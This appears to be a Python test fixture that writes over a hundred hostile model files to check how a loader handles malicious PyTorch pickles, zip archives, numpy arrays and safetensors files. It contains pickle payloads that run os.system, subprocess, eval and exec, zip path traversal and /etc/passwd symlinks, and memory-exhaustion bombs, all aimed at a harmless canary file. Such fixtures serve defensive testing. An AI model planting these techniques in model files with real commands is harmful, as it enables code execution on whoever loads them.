"""Hostile model files: each builder writes one, with a canary that code would touch.

No file does more than to make an empty file at the canary's path, or to waste memory
and time in a process that has limits.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

Build = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Payload:
    """A hostile file."""

    name: str
    """Its name, with the suffix it has."""
    build: Build
    """Writes it: given its path and the canary's."""


PAYLOADS: list[Payload] = []


def payload(suffix: str = ".pth") -> Callable[[Build], Build]:
    """Add a builder to the list."""

    def add(build: Build) -> Build:
        PAYLOADS.append(Payload(build.__name__ + suffix, build))
        return build

    return add


# Pieces


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def number(value: int) -> bytes:
    if -(1 << 31) <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def row(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(function: bytes, *parts: bytes) -> bytes:
    return function + row(*parts) + b"R"


ORDERED = call(named("collections", "OrderedDict"))


def storage(
    count: int = 4, key: str = "0", kind: bytes = named("torch", "FloatStorage")
) -> bytes:
    return row(text("storage"), kind, text(key), text("cpu"), number(count)) + b"Q"


def tensor(
    shape: tuple[int, ...] = (4,),
    strides: tuple[int, ...] = (1,),
    *,
    offset: int = 0,
    stored: bytes = b"",
    hooks: bytes = ORDERED,
    function: bytes = named("torch._utils", "_rebuild_tensor_v2"),
) -> bytes:
    return call(
        function,
        stored or storage(),
        number(offset),
        row(*map(number, shape)),
        row(*map(number, strides)),
        b"\x89",
        hooks,
    )


def program(*body: bytes, protocol: bytes = b"\x80\x02") -> bytes:
    return protocol + b"".join(body) + b"."


def weights(*extra: bytes) -> bytes:
    """Return a program for one sound tensor, and what else is in its table."""
    return program(b"}(", text("w"), tensor(), *extra, b"u")


def archive(
    path: Path,
    data: bytes,
    *,
    more: dict[str, bytes] | None = None,
    numbers: bytes = bytes(16),
    method: int = zipfile.ZIP_STORED,
) -> None:
    """Write a zip archive as torch does, but for what is hostile."""
    members = {"archive/data.pkl": data, "archive/data/0": numbers}
    members |= {"archive/version": b"3\n", **(more or {})}
    with zipfile.ZipFile(path, "w", method) as file:
        for name, content in members.items():
            file.writestr(name, content)


class Evil:
    """Pickles as a call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> Any:
        return self._reduced


def touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def system(canary: Path) -> bytes:
    return call(named("posix", "system"), text(f"touch '{canary}'"))


def evil_pickle(canary: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(Evil(eval, touch(canary)), protocol)


# Calls of functions


@payload()
def os_system(path: Path, canary: Path) -> None:
    archive(
        path, weights(text("x"), call(named("os", "system"), text(f"touch {canary}")))
    )


@payload()
def posix_system(path: Path, canary: Path) -> None:
    archive(path, weights(text("x"), system(canary)))


@payload()
def subprocess_popen(path: Path, canary: Path) -> None:
    words = b"](" + text("touch") + text(str(canary)) + b"e"
    archive(path, program(call(named("subprocess", "Popen"), words)))


@payload()
def subprocess_check_output(path: Path, canary: Path) -> None:
    words = b"](" + text("touch") + text(str(canary)) + b"e"
    archive(path, program(call(named("subprocess", "check_output"), words)))


@payload()
def builtins_eval(path: Path, canary: Path) -> None:
    archive(path, program(call(named("builtins", "eval"), text(touch(canary)))))


@payload()
def builtins_exec(path: Path, canary: Path) -> None:
    archive(path, program(call(named("builtins", "exec"), text(touch(canary)))))


@payload()
def python2_builtins(path: Path, canary: Path) -> None:
    archive(path, program(call(named("__builtin__", "eval"), text(touch(canary)))))


@payload()
def builtins_getattr_chain(path: Path, canary: Path) -> None:
    module = call(named("builtins", "__import__"), text("os"))
    function = call(named("builtins", "getattr"), module, text("system"))
    archive(path, program(call(function, text(f"touch {canary}"))))


@payload()
def importlib_module(path: Path, canary: Path) -> None:
    path.with_name("segsuite_evil.py").write_text(touch(canary))
    archive(
        path, program(call(named("importlib", "import_module"), text("antigravity")))
    )


@payload()
def runpy_path(path: Path, canary: Path) -> None:
    script = path.with_name("segsuite_evil.py")
    script.write_text(touch(canary))
    archive(path, program(call(named("runpy", "run_path"), text(str(script)))))


@payload()
def reduce_chain(path: Path, canary: Path) -> None:
    compiled = Evil(compile, touch(canary), "x", "exec")
    archive(path, pickle.dumps([{"a": (Evil(exec, compiled),)}], 2))


@payload()
def operator_methodcaller(path: Path, canary: Path) -> None:
    caller = call(
        named("operator", "methodcaller"), text("system"), text(f"touch {canary}")
    )
    archive(
        path, program(call(caller, call(named("builtins", "__import__"), text("os"))))
    )


@payload()
def functools_partial(path: Path, canary: Path) -> None:
    part = call(
        named("functools", "partial"), named("os", "system"), text(f"touch {canary}")
    )
    archive(path, program(part, b")R"))


@payload()
def pathlib_touch(path: Path, canary: Path) -> None:
    made = call(named("pathlib", "Path"), text(str(canary)))
    archive(path, program(call(named("pathlib", "Path.touch"), made)))


@payload()
def shutil_copy(path: Path, canary: Path) -> None:
    archive(
        path,
        program(
            call(named("shutil", "copyfile"), text("/dev/null"), text(str(canary)))
        ),
    )


@payload()
def webbrowser_open(path: Path, canary: Path) -> None:
    archive(path, program(call(named("webbrowser", "open"), text(f"file://{canary}"))))


@payload()
def socket_connect(path: Path, canary: Path) -> None:
    address = row(text("127.0.0.1"), number(9))
    archive(path, program(call(named("socket", "create_connection"), address)))


@payload()
def ctypes_library(path: Path, canary: Path) -> None:
    archive(path, program(call(named("ctypes", "CDLL"), text("libc.so.6"))))


# Functions of torch and numpy


@payload()
def torch_load_inner(path: Path, canary: Path) -> None:
    inner = path.with_suffix(".inner")
    inner.write_bytes(evil_pickle(canary))
    archive(path, program(call(named("torch", "load"), text(str(inner)))))


@payload()
def torch_serialization_load(path: Path, canary: Path) -> None:
    inner = path.with_suffix(".inner")
    inner.write_bytes(evil_pickle(canary))
    archive(path, program(call(named("torch.serialization", "load"), text(str(inner)))))


@payload()
def torch_hub(path: Path, canary: Path) -> None:
    archive(path, program(call(named("torch.hub", "load"), text("a/b"), text("c"))))


@payload()
def torch_jit(path: Path, canary: Path) -> None:
    archive(path, program(call(named("torch.jit", "load"), text(str(canary)))))


@payload()
def torch_from_file(path: Path, canary: Path) -> None:
    made = call(named("torch", "from_file"), text(str(canary)), b"\x88", number(4))
    archive(path, program(made))


@payload()
def torch_dotted_name(path: Path, canary: Path) -> None:
    name = named("torch", "serialization.os.system")
    archive(path, program(call(name, text(f"touch {canary}"))))


@payload()
def torch_from_type(path: Path, canary: Path) -> None:
    rebuild = named("torch._tensor", "_rebuild_from_type_v2")
    made = call(
        rebuild, named("os", "system"), b"N", row(text(f"touch {canary}")), b"}"
    )
    archive(path, program(made))


@payload()
def torch_device_tensor(path: Path, canary: Path) -> None:
    rebuild = named("torch._utils", "_rebuild_device_tensor_from_numpy")
    archive(path, program(call(rebuild, b"N", b"N", text("cpu"), b"\x89")))


@payload()
def torch_module(path: Path, canary: Path) -> None:
    module = named("torch.nn.modules.linear", "Linear") + b")\x81"
    archive(path, program(module, b"}(", text("training"), b"\x88ub"))


@payload()
def codecs_encode(path: Path, canary: Path) -> None:
    made = call(named("_codecs", "encode"), text("x" * 10), text("latin1"))
    archive(path, program(made))


@payload()
def numpy_objects(path: Path, canary: Path) -> None:
    archive(path, pickle.dumps(np.array([Evil(eval, touch(canary))], dtype=object), 2))


@payload()
def numpy_load(path: Path, canary: Path) -> None:
    inner = path.with_suffix(".npy")
    np.save(inner, np.array([Evil(eval, touch(canary))], dtype=object))
    archive(
        path, program(call(named("numpy", "load"), text(str(inner)), b"N", b"\x88"))
    )


# Other instructions of pickles


@payload()
def build_setstate(path: Path, canary: Path) -> None:
    state = row(named("os", "system"), row(text(f"touch {canary}")), b"}", b"N")
    partial = call(named("functools", "partial"), named("builtins", "print"))
    archive(path, program(partial, state, b"b"))


@payload()
def build_attributes(path: Path, canary: Path) -> None:
    state = b"}(" + text("keys") + named("torch", "FloatStorage") + b"u"
    archive(path, program(ORDERED, b"(", text("w"), tensor(), b"u", state, b"b"))


@payload()
def build_on_tensor(path: Path, canary: Path) -> None:
    archive(path, program(tensor(), b"}(", text("data"), text("x"), b"ub"))


@payload()
def extension_codes(path: Path, canary: Path) -> None:
    archive(path, program(b"\x82\x01"))


@payload()
def extension_codes_long(path: Path, canary: Path) -> None:
    archive(path, program(b"\x84\x01\x00\x00\x00"))


@payload()
def inst_opcode(path: Path, canary: Path) -> None:
    archive(path, program(b"(", text(f"touch {canary}"), b"iposix\nsystem\n"))


@payload()
def obj_opcode(path: Path, canary: Path) -> None:
    archive(
        path, program(b"(", named("posix", "system"), text(f"touch {canary}"), b"o")
    )


@payload()
def newobj_opcode(path: Path, canary: Path) -> None:
    made = named("subprocess", "Popen") + row(text(f"touch {canary}")) + b"\x81"
    archive(path, program(made))


@payload()
def newobj_ex_opcode(path: Path, canary: Path) -> None:
    made = named("subprocess", "Popen") + row(text(f"touch {canary}")) + b"}\x92"
    archive(path, program(made, protocol=b"\x80\x04"))


@payload()
def stack_global(path: Path, canary: Path) -> None:
    name = text("posix") + text("system") + b"\x93"
    archive(path, program(call(name, text(f"touch {canary}")), protocol=b"\x80\x04"))


@payload()
def protocol_0(path: Path, canary: Path) -> None:
    archive(path, evil_pickle(canary, 0))


@payload()
def protocol_4_frames(path: Path, canary: Path) -> None:
    archive(path, evil_pickle(canary, 4))


@payload()
def protocol_5_buffers(path: Path, canary: Path) -> None:
    archive(path, program(b"\x97", protocol=b"\x80\x05"))


@payload()
def text_persistent_id(path: Path, canary: Path) -> None:
    archive(path, program(b"Pstorage\n"))


@payload()
def persistent_id_module(path: Path, canary: Path) -> None:
    archive(path, program(row(text("module"), named("os", "system"), text("x")), b"Q"))


@payload()
def persistent_id_function(path: Path, canary: Path) -> None:
    archive(
        path, weights(text("v"), tensor(stored=storage(kind=named("os", "system"))))
    )


@payload()
def persistent_id_text(path: Path, canary: Path) -> None:
    archive(path, program(text("storage"), b"Q"))


@payload()
def persistent_id_path(path: Path, canary: Path) -> None:
    archive(path, weights(text("v"), tensor(stored=storage(key="../../etc/passwd"))))


@payload()
def hooks_that_call(path: Path, canary: Path) -> None:
    hooks = ORDERED + b"(" + number(0) + named("os", "system") + b"u"
    archive(path, program(b"}(", text("w"), tensor(hooks=hooks), b"u"))


@payload()
def second_program(path: Path, canary: Path) -> None:
    archive(path, weights() + evil_pickle(canary))


# Sizes and memory


@payload()
def huge_stride(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor((2, 2), (1 << 40, 1)), b"u"))


@payload()
def negative_stride(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor((2, 2), (-1, 1)), b"u"))


@payload()
def negative_size(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor((-4,), (1,)), b"u"))


@payload()
def negative_offset(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor((2,), (1,), offset=-2), b"u"))


@payload()
def offset_beyond(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor((4,), (1,), offset=1), b"u"))


@payload()
def repeated_number(path: Path, canary: Path) -> None:
    shape, steps = (1 << 20, 1 << 20), (0, 0)
    archive(path, program(b"}(", text("w"), tensor(shape, steps), b"u"))


@payload()
def one_storage_many_times(path: Path, canary: Path) -> None:
    twins = b"".join(text(f"w{n}") + tensor((1 << 18,)) for n in range(1000))
    twins = twins.replace(storage(), storage(1 << 18))
    archive(path, program(b"}(", twins, b"u"), numbers=bytes(1 << 20))


@payload()
def true_as_size(path: Path, canary: Path) -> None:
    made = tensor().replace(number(4) + b"t", b"\x88t")
    archive(path, program(b"}(", text("w"), made, b"u"))


@payload()
def storage_too_small(path: Path, canary: Path) -> None:
    archive(path, weights(), numbers=bytes(8))


@payload()
def storage_says_more(path: Path, canary: Path) -> None:
    made = tensor(stored=storage(1 << 36))
    archive(path, program(b"}(", text("w"), made, b"u"))


@payload()
def storage_missing(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", text("w"), tensor(stored=storage(key="7")), b"u"))


@payload()
def storage_of_two_types(path: Path, canary: Path) -> None:
    other = tensor(stored=storage(kind=named("torch", "IntStorage")))
    archive(path, weights(text("v"), other))


@payload()
def storage_unused(path: Path, canary: Path) -> None:
    archive(path, weights(), more={"archive/data/1": bytes(1 << 20)})


@payload()
def bytearray_of_4_gib(path: Path, canary: Path) -> None:
    made = call(named("builtins", "bytearray"), number(4 << 30))
    archive(path, weights(text("x"), made))


@payload()
def range_as_list(path: Path, canary: Path) -> None:
    made = call(named("builtins", "range"), number(1 << 40))
    archive(path, program(call(named("builtins", "list"), made)))


@payload()
def cycle(path: Path, canary: Path) -> None:
    loop = text("state_dict") + b"h\x00"
    archive(path, program(b"}q\x00(", text("w"), tensor(), loop, b"u"))


@payload()
def laughing_lists(path: Path, canary: Path) -> None:
    level = b"](" + b"h\x00" * 10 + b"eq\x00"
    levels = b"".join(number(n) + level for n in range(1, 61))
    archive(path, weights(number(0), b"]q\x00", levels))


@payload()
def laughing_keys(path: Path, canary: Path) -> None:
    # The hash of a tuple is computed anew each time: 2^60 steps.
    level = b"h\x00h\x00\x86q\x00"
    archive(path, program(b")q\x00", level * 60, b"q\x01}h\x01Ns"))


@payload()
def tuples_as_keys(path: Path, canary: Path) -> None:
    archive(path, program(b"}", number(1), b"\x85", tensor(), b"s"))


@payload()
def deep_tuples(path: Path, canary: Path) -> None:
    archive(path, program(b"N", b"\x85" * 100_000))


@payload()
def deep_tables(path: Path, canary: Path) -> None:
    body = b"}" + (text("a") + b"}") * 100_000 + b"s" * 100_000
    archive(path, weights(text("x"), body))


@payload()
def endless_marks(path: Path, canary: Path) -> None:
    archive(path, program(b"(" * 1_000_000))


@payload()
def million_instructions(path: Path, canary: Path) -> None:
    archive(path, program(b"}(", (number(1) + b"N") * 500_000, b"u"))


@payload()
def text_beyond_the_end(path: Path, canary: Path) -> None:
    archive(path, program(b"X\xff\xff\xff\xff"))


@payload()
def text_of_8_bytes_length(path: Path, canary: Path) -> None:
    archive(path, program(b"\x8d" + b"\xff" * 7 + b"\x7f", protocol=b"\x80\x04"))


@payload()
def long_of_4_gib(path: Path, canary: Path) -> None:
    archive(path, program(b"\x8b\xff\xff\xff\x7f"))


@payload()
def million_digits(path: Path, canary: Path) -> None:
    archive(path, program(b"L" + b"9" * 1_000_000 + b"L\n"))


@payload()
def program_of_17_mib(path: Path, canary: Path) -> None:
    archive(path, program(text("x" * (17 << 20))))


@payload()
def empty_stack(path: Path, canary: Path) -> None:
    archive(path, program(b"RRRR"))


@payload()
def memo_without_end(path: Path, canary: Path) -> None:
    archive(path, program(b"N", b"r\xff\xff\xff\xff" * 1000, b"j\xfe\xff\xff\xff"))


@payload()
def surrogate_names(path: Path, canary: Path) -> None:
    name = b"X\x03\x00\x00\x00\xed\xa0\x80"
    archive(path, program(b"}(", name, tensor(), b"u"))


# Archives


@payload()
def two_programs(path: Path, canary: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", evil_pickle(canary))
        file.writestr("archive/data/0", bytes(16))
        file.writestr("archive/datA.pkl", weights())
    path.write_bytes(path.read_bytes().replace(b"datA.pkl", b"data.pkl"))


@payload()
def program_in_two_folders(path: Path, canary: Path) -> None:
    archive(path, weights(), more={"other/data.pkl": evil_pickle(canary)})


@payload()
def deflate_bomb(path: Path, canary: Path) -> None:
    method = zipfile.ZIP_DEFLATED
    archive(path, weights(), numbers=bytes(256 << 20), method=method)


@payload()
def deflated(path: Path, canary: Path) -> None:
    archive(path, weights(), method=zipfile.ZIP_DEFLATED)


@payload()
def symbolic_link(path: Path, canary: Path) -> None:
    archive(path, weights())
    with zipfile.ZipFile(path, "a") as file:
        link = zipfile.ZipInfo("archive/data/1")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")


@payload()
def path_traversal(path: Path, canary: Path) -> None:
    archive(path, weights(), more={f"archive/../../{canary.name}": b"x"})


@payload()
def absolute_path(path: Path, canary: Path) -> None:
    archive(path, weights(), more={str(canary): b"x"})


@payload()
def windows_path(path: Path, canary: Path) -> None:
    archive(path, weights(), more={"archive/C:evil": b"x"})


@payload()
def wrong_crc(path: Path, canary: Path) -> None:
    archive(path, weights(), numbers=b"\x01" * 16)
    path.write_bytes(path.read_bytes().replace(b"\x01" * 16, b"\x02" * 16))


@payload()
def wrong_crc_of_program(path: Path, canary: Path) -> None:
    archive(path, program(text("aaaa")))
    path.write_bytes(path.read_bytes().replace(b"aaaa", b"bbbb"))


@payload()
def truncated(path: Path, canary: Path) -> None:
    archive(path, weights())
    path.write_bytes(path.read_bytes()[:-30])


@payload()
def cut_in_half(path: Path, canary: Path) -> None:
    archive(path, weights(), numbers=bytes(100_000))
    path.write_bytes(path.read_bytes()[:50_000])


@payload()
def more_in_front(path: Path, canary: Path) -> None:
    archive(path, weights())
    path.write_bytes(b"PK\x03\x04" + bytes(60) + path.read_bytes())


@payload()
def more_behind(path: Path, canary: Path) -> None:
    archive(path, weights())
    path.write_bytes(path.read_bytes() + evil_pickle(canary))


@payload()
def archive_comment(path: Path, canary: Path) -> None:
    archive(path, weights())
    with zipfile.ZipFile(path, "a") as file:
        file.comment = evil_pickle(canary)


@payload()
def between_the_parts(path: Path, canary: Path) -> None:
    archive(path, weights())
    data = path.read_bytes()
    at = data.index(b"PK\x01\x02")
    end = bytearray(data[at:])
    start = struct.unpack_from("<I", end, len(end) - 6)[0]
    struct.pack_into("<I", end, len(end) - 6, start + 100)
    path.write_bytes(data[:at] + evil_pickle(canary).ljust(100, b".") + bytes(end))


@payload()
def other_local_name(path: Path, canary: Path) -> None:
    archive(path, weights())
    path.write_bytes(path.read_bytes().replace(b"archive/data/0", b"archive/evil/0", 1))


@payload()
def overlapping_parts(path: Path, canary: Path) -> None:
    archive(path, weights())
    data = bytearray(path.read_bytes())
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1)
    struct.pack_into("<I", data, second + 42, 0)
    path.write_bytes(data)


@payload()
def encrypted(path: Path, canary: Path) -> None:
    archive(path, weights())
    data = bytearray(path.read_bytes())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(data)


@payload()
def million_parts(path: Path, canary: Path) -> None:
    archive(path, weights())
    data = bytearray(path.read_bytes())
    struct.pack_into("<2H", data, len(data) - 14, 0xFFFE, 0xFFFE)
    path.write_bytes(data)


@payload()
def sizes_of_2_60(path: Path, canary: Path) -> None:
    archive(path, weights())
    data = bytearray(path.read_bytes())
    listed = data.index(b"PK\x01\x02")
    struct.pack_into("<2L", data, listed + 20, 0xFFFF_FFF0, 0xFFFF_FFF0)
    path.write_bytes(data)


@payload()
def big_endian(path: Path, canary: Path) -> None:
    archive(path, weights(), more={"archive/byteorder": b"big"})


@payload()
def archive_in_archive(path: Path, canary: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("archive/data.pkl", evil_pickle(canary))
    archive(path, weights(), more={"archive/inner.zip": inner.getvalue()})


@payload(".zip")
def bundle_with_python(path: Path, canary: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("model/__main__.py", touch(canary))
        file.writestr("model/__init__.py", touch(canary))
        file.writestr("model/data.pkl", weights())


@payload(".zip")
def python_program(path: Path, canary: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("__main__.py", touch(canary))


@payload(".pt")
def torchscript(path: Path, canary: Path) -> None:
    code = b"def forward(self): return 1"
    more = {"archive/code/__torch__.py": code, "archive/constants.pkl": b"\x80\x02)."}
    archive(path, weights(), more=more)


@payload(".npz")
def numpy_archive(path: Path, canary: Path) -> None:
    np.savez(path, a=np.array([Evil(eval, touch(canary))], dtype=object))


# Other formats


@payload(".pkl")
def raw_pickle(path: Path, canary: Path) -> None:
    path.write_bytes(evil_pickle(canary))


@payload()
def raw_pickle_protocol_0(path: Path, canary: Path) -> None:
    path.write_bytes(evil_pickle(canary, 0))


@payload(".pkl")
def raw_pickle_protocol_5(path: Path, canary: Path) -> None:
    path.write_bytes(evil_pickle(canary, 5))


@payload()
def legacy_file(path: Path, canary: Path) -> None:
    magic, version = 0x1950A86A20F9469CFC6C, 1001
    parts = [magic, version, {"little_endian": True}, Evil(eval, touch(canary)), []]
    path.write_bytes(b"".join(pickle.dumps(part, 2) for part in parts))


@payload()
def legacy_tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, "w") as file:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            info = tarfile.TarInfo(name)
            data = evil_pickle(canary)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))


@payload(".npy")
def numpy_array(path: Path, canary: Path) -> None:
    np.save(path, np.array([Evil(eval, touch(canary))], dtype=object))


@payload(".h5")
def keras_lambda(path: Path, canary: Path) -> None:
    path.write_bytes(b"\x89HDF\r\n\x1a\n" + evil_pickle(canary))


@payload(".onnx")
def onnx(path: Path, canary: Path) -> None:
    path.write_bytes(b"\x08\x07\x12\x07pytorch" + bytes(100))


@payload()
def shell_script(path: Path, canary: Path) -> None:
    path.write_text(f"#!/bin/sh\ntouch {canary}\n")


@payload()
def web_page(path: Path, canary: Path) -> None:
    path.write_text("<!DOCTYPE html><script>alert(1)</script>")


@payload()
def compressed_pickle(path: Path, canary: Path) -> None:
    path.write_bytes(b"\x1f\x8b" + zlib.compress(evil_pickle(canary)))


@payload()
def empty(path: Path, canary: Path) -> None:
    path.touch()


@payload(".safetensors")
def pickle_in_disguise(path: Path, canary: Path) -> None:
    path.write_bytes(evil_pickle(canary))


# safetensors


def safetensors(path: Path, header: Any, data: bytes = b"") -> None:
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes(len(encoded).to_bytes(8, "little") + encoded + data)


def entry(
    start: int, stop: int, shape: Any = (2,), dtype: str = "F32"
) -> dict[str, Any]:
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, stop]}


@payload(".safetensors")
def overlapping_tensors(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 8), "b": entry(4, 12)}, bytes(12))


@payload(".safetensors")
def negative_offsets(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(-8, 0)}, bytes(8))


@payload(".safetensors")
def huge_offsets(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 1 << 62, (1 << 60,))}, bytes(8))


@payload(".safetensors")
def holes(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 8), "b": entry(16, 24)}, bytes(24))


@payload(".safetensors")
def polyglot(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 8)}, bytes(8) + evil_pickle(canary))


@payload(".safetensors")
def duplicate_names(path: Path, canary: Path) -> None:
    one = json.dumps(entry(0, 8))
    safetensors(path, f'{{"a": {one}, "a": {one}}}'.encode(), bytes(8))


@payload(".safetensors")
def header_of_9_mib(path: Path, canary: Path) -> None:
    safetensors(path, b"{" + b" " * (9 << 20) + b"}")


@payload(".safetensors")
def header_longer_than_the_file(path: Path, canary: Path) -> None:
    path.write_bytes((1 << 60).to_bytes(8, "little") + b"{}")


@payload(".safetensors")
def deep_header(path: Path, canary: Path) -> None:
    safetensors(path, b'{"a":' + b"[" * 1_000_000)


@payload(".safetensors")
def many_tensors(path: Path, canary: Path) -> None:
    safetensors(path, {f"t{n}": entry(0, 0, (0,)) for n in range(100_000)})


@payload(".safetensors")
def number_of_a_million_digits(path: Path, canary: Path) -> None:
    digits = b"9" * 1_000_000
    header = b'{"a":{"dtype":"F32","shape":[' + digits + b'],"data_offsets":[0,8]}}'
    safetensors(path, header, bytes(8))


@payload(".safetensors")
def unknown_dtype(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 8, dtype="OBJ")}, bytes(8))


@payload(".safetensors")
def nan_weights(path: Path, canary: Path) -> None:
    data = np.full(2, np.nan, "<f4").tobytes()
    safetensors(path, {"a": entry(0, 8)}, data)


@payload(".safetensors")
def too_many_axes(path: Path, canary: Path) -> None:
    safetensors(path, {"a": entry(0, 4, (1,) * 100_000)}, bytes(4))
